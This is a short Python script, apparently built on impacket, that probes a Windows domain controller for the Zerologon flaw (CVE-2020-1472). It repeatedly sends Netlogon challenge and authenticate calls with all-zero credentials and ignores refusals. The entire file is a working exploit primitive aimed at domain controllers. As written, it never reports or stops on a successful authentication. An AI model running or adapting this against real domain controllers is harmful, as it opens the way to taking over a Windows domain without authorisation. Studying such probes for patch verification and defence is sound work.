"""Guesses at the Netlogon secure channel with an all-zero credential (CVE-2020-1472's probe): challenge and authenticate again and again.

Usage: netlogon.py ADDRESS NAME TRIES
"""

import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

address, name, tries = sys.argv[1], sys.argv[2], int(sys.argv[3])
binding = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
called = transport.DCERPCTransportFactory(binding).get_dce_rpc()
called.connect()
called.bind(nrpc.MSRPC_UUID_NRPC)
for _ in range(tries):
    try:
        nrpc.hNetrServerReqChallenge(called, f'{name}\0', f'{name}\0', b'\0' * 8)
        nrpc.hNetrServerAuthenticate3(
            called, f'{name}$\0', f'{name}$\0', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, f'{name}\0', b'\0' * 8, 0x212FFFFF
        )
    except nrpc.DCERPCSessionError:
        pass  # refused, as a patched server does
